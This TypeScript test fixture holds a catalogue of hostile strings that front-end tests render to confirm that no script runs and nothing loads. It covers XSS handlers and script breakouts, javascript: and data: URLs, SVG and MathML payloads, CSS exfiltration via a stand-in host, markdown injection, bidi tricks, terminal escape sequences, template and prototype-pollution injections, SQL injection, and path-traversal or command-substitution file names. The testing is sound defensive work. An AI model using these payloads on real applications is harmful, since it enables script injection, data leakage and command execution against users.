/**
 * Malicious texts as a model, a tool, an agent card, a file or a trace might contain them. The
 * tests of each front end display all of them and check that no script runs, nothing is loaded and
 * the layout stays intact. A script that runs sets `globalThis.hostileHit`; all URLs are below
 * `https://hostile.invalid`.
 */
interface HostileText {
  readonly kind: HostileKind;
  readonly text: string;
}

type HostileKind = keyof typeof TEXTS;

const RUN = 'globalThis.hostileHit=1';
const HOST = 'https://hostile.invalid';
const IN_BASE64 = Buffer.from(`<script>parent.hostileHit=1;${RUN}</script>`).toString('base64');
const ESC = '\u001b';

/** Event handlers that run without a user, or when the user points, clicks or types. */
const HANDLERS = [
  `<img src=x onerror="${RUN}">`,
  `<img src="x" ONERROR='${RUN}'>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x onerror\n=\n${RUN}>`,
  `<img src=x onerror=&#103;lobalThis.hostileHit=1>`,
  `<img """><img src=x onerror="${RUN}">">`,
  `<body onload="${RUN}">`,
  `<body onpageshow=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<div onmouseover="${RUN}" style="position:fixed;inset:0">x</div>`,
  `<p onpointerenter="${RUN}">point here</p>`,
  `<a href="#" onclick="${RUN}">click here</a>`,
  `<button onclick=${RUN} autofocus>press</button>`,
  `<div contenteditable oninput=${RUN} onbeforeinput=${RUN}>type</div>`,
  `<form><button formaction="javascript:${RUN}">send</button></form>`,
  `<x onanimationend=${RUN} style="animation:x 1ms"></x>`,
  `<x ontransitionend=${RUN} style="transition:all 1ms" tabindex=1></x>`,
  `" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}' x='`,
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<script src="${HOST}/a.js"></script>`,
  `<script src="//hostile.invalid/b.js"></script>`,
  `<script type="module">import "${HOST}/c.js"</script>`,
  `<script type="importmap">{"imports":{"react":"${HOST}/d.js"}}</script>`,
  `<script async defer src=data:text/javascript,${RUN}></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `--></script><script>${RUN}</script><!--`,
  `<!--><script>${RUN}</script>-->`,
  `]]><script>${RUN}</script>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `<textarea></textarea><script>${RUN}</script>`,
  `<title></title><script>${RUN}</script>`,
  `<xmp></xmp><script>${RUN}</script>`,
  `<plaintext><script>${RUN}</script>`,
];

const ADDRESSES = [
  `<a href="javascript:${RUN}">a</a>`,
  `<a href="JaVaScRiPt:${RUN}">a</a>`,
  `<a href=" javascript:${RUN}">a</a>`,
  `<a href="java\tscript:${RUN}">a</a>`,
  `<a href="java&#10;script:${RUN}">a</a>`,
  `<a href="&#106;avascript:${RUN}">a</a>`,
  `<a href="\u0001javascript:${RUN}">a</a>`,
  `<a href="vbscript:msgbox(1)">a</a>`,
  `<a href="data:text/html;base64,${IN_BASE64}">a</a>`,
  `<a href="blob:${HOST}/a">a</a>`,
  `<a href="file:///etc/passwd">a</a>`,
  `[a](javascript:${RUN})`,
  `[a](<javascript:${RUN}>)`,
  `[a](javascript&colon;${RUN})`,
  `[a](JAVASCRIPT:${RUN} "title")`,
  `[a][b]\n\n[b]: javascript:${RUN}`,
  `[a](data:text/html;base64,${IN_BASE64})`,
  `[a](vbscript:msgbox)`,
  `<javascript:${RUN}>`,
  `javascript:${RUN}`,
];

const DRAWINGS = [
  `<svg onload=${RUN}></svg>`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${HOST}/e.js"/></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><set onbegin=${RUN} attributeName=x to=1></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>a</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>a</text></a></svg>`,
  `<svg><use href="${HOST}/f.svg#x"/></svg>`,
  `<svg><use href="data:image/svg+xml;base64,${IN_BASE64}#x"/></svg>`,
  `<svg><image href="${HOST}/g.png"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${RUN}">a</math>`,
];

const STYLES = [
  `<style>*{display:none!important}</style>`,
  `<style>@import "${HOST}/h.css";</style>`,
  `<style>body{background:url(${HOST}/i.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${HOST}/j.woff2)}*{font-family:x}</style>`,
  `<style>input[value^="a"]{background:url(${HOST}/k)}</style>`,
  `<link rel="stylesheet" href="${HOST}/l.css">`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>`,
  `<div style="position:absolute;top:-9999px;width:99999px">x</div>`,
  `<div style="background:url(${HOST}/m.png)">x</div>`,
  `<div style="width:expression(${RUN})">x</div>`,
  `<p style="font-size:9999px">x</p>`,
  `<p class="fixed inset-0 z-50 bg-bad">x</p>`,
  `<p id="root">x</p><p id="main">x</p>`,
  `<table background="${HOST}/n.png"><td width="99999">x</td></table>`,
  `</style><img src=x onerror=${RUN}><style>`,
];

const LOADS = [
  `<img src="${HOST}/1.png">`,
  `<img srcset="${HOST}/2.png 1x">`,
  `<picture><source srcset="${HOST}/3.png"><img></picture>`,
  `<iframe src="${HOST}/4"></iframe>`,
  `<iframe srcdoc="<script>parent.hostileHit=1</script>"></iframe>`,
  `<iframe src="javascript:parent.hostileHit=1"></iframe>`,
  `<object data="${HOST}/5"></object>`,
  `<embed src="${HOST}/6">`,
  `<video src="${HOST}/7" autoplay poster="${HOST}/8"></video>`,
  `<audio src="${HOST}/9" autoplay></audio>`,
  `<track src="${HOST}/10">`,
  `<base href="${HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=${HOST}/11">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src 'none'">`,
  `<link rel="prefetch" href="${HOST}/12">`,
  `<link rel="preconnect" href="${HOST}">`,
  `<link rel="icon" href="${HOST}/13.ico">`,
  `<form action="${HOST}/14"><input name=q><input type=submit></form>`,
  `<a href="${HOST}/15" ping="${HOST}/16">a</a>`,
  `<input type="image" src="${HOST}/17">`,
];

const MARKDOWN = [
  `![a](${HOST}/20.png)`,
  `![a](//hostile.invalid/21.png)`,
  `![a][b]\n\n[b]: ${HOST}/22.png`,
  `[![a](${HOST}/23.png)](javascript:${RUN})`,
  `![a](javascript:${RUN})`,
  `![a](data:image/svg+xml;base64,${IN_BASE64})`,
  `![a"onerror="${RUN}](x)`,
  `![a](x"onerror="${RUN})`,
  `[a](x "title"onmouseover="${RUN}")`,
  `# <img src=x onerror=${RUN}>`,
  `> <script>${RUN}</script>`,
  `- <iframe src="${HOST}/24">`,
  `~~~html"onload="${RUN}\nx\n~~~`,
  `~~~\n</code></pre><script>${RUN}</script>\n~~~`,
  `\`<img src=x onerror=${RUN}>\``,
  `| <img src=x onerror=${RUN}> |\n|---|\n| ![a](${HOST}/25.png) |`,
  `<a\nhref="javascript:${RUN}">a</a>`,
  `<https://hostile.invalid/"onclick="${RUN}>`,
  `${'> '.repeat(400)}deep`,
  `${'['.repeat(2000)}a${']'.repeat(2000)}(b)`,
];

const SIGNS = [
  'user\u202etxt.exe',
  '\u202eall of it backwards',
  '\u2066\u2067\u2068 isolates that are never closed',
  '\u202a\u202b\u202d embeddings that are never closed',
  '\u061c\u200e\u200f marks',
  'pay\u200bpal\u200c\u200d\u2060\ufeff',
  '\u00ad'.repeat(500),
  'a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(50),
  `Z${'\u0300'.repeat(300)}`,
  '\u{e0041}\u{e0042}\u{e007f} tags that are not seen',
  'half \ud83d and \udc4d halves',
  '\u2028 and \u2029 in a line',
  '\ufffe\uffff no characters',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}'.repeat(100),
  '\u0430\u0440\u0440l\u0435.com in other letters',
];

const TERMINAL = [
  `${ESC}[2J${ESC}[3J${ESC}[H`,
  `${ESC}]0;title\u0007`,
  `${ESC}]52;c;ZWNobyBoaQ==\u0007`,
  `${ESC}]8;;${HOST}\u0007here${ESC}]8;;\u0007`,
  `${ESC}P+q544e${ESC}\\`,
  `${ESC}[?1049h${ESC}[?1000h`,
  `${ESC}[6n${ESC}[c`,
  `${ESC}_Gi=1;AAAA${ESC}\\`,
  `${ESC}[31mred${ESC}[0m`,
  '\u009b2J\u009d52;c;aGk=\u009c',
  'over\rwritten\b\b\b\u007f',
  '\u0000nul \u0007bell \u000b \u000c',
  `${ESC}]52;c;never ended`,
  `data: x\n\nevent: task\ndata: {}\n\n`,
  `HTTP/1.1 200 OK\r\nset-cookie: a=b\r\n\r\n`,
];

const LENGTHS = [
  'w'.repeat(20_000),
  'wide '.repeat(4000),
  '\n'.repeat(2000),
  '\u00a0'.repeat(5000),
  `${'/'.repeat(5000)}path`,
  `|${' a |'.repeat(300)}\n|${'---|'.repeat(300)}\n|${' b |'.repeat(300)}`,
  `${HOST}/${'a'.repeat(8000)}`,
  `\u{fdfd}`.repeat(500),
];

const TEMPLATES = [
  '{{constructor.constructor("globalThis.hostileHit=1")()}}',
  '${globalThis.hostileHit=1}',
  '`${globalThis.hostileHit=1}`',
  '<%= globalThis.hostileHit=1 %>',
  '#{globalThis.hostileHit=1}',
  '{% include "/etc/passwd" %}',
  '{"__proto__":{"hostileHit":1}}',
  '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=globalThis.hostileHit=1>"}}}',
  '__proto__',
  'constructor',
  'toString',
  "'; DROP TABLE tasks; --",
  "$& $1 $` $' $$",
  '%s %d %n %c',
];

const FILE_NAMES = [
  '../../../../etc/passwd',
  '..\\..\\windows\\system32\\config',
  '/etc/passwd\u0000.png',
  'CON',
  '-rf ~',
  '$(touch hit).txt',
  '`touch hit`.txt',
  'a\nb.txt',
  `"><img src=x onerror=${RUN}>.png`,
  `invoice.pdf${' '.repeat(200)}.exe`,
  '%2e%2e%2fsecret',
  'https:hostile.invalid',
  `?task=x&trial=0#token=${'a'.repeat(64)}`,
];

const TEXTS = {
  handler: HANDLERS,
  script: SCRIPTS,
  address: ADDRESSES,
  drawing: DRAWINGS,
  style: STYLES,
  load: LOADS,
  markdown: MARKDOWN,
  sign: SIGNS,
  terminal: TERMINAL,
  length: LENGTHS,
  template: TEMPLATES,
  'file-name': FILE_NAMES,
} as const satisfies Readonly<Record<string, readonly string[]>>;

/** All malicious texts, grouped by kind. */
export const HOSTILE_TEXTS: readonly HostileText[] = Object.entries(TEXTS).flatMap(
  ([kind, texts]) => texts.map((text) => ({ kind: kind as HostileKind, text })),
);
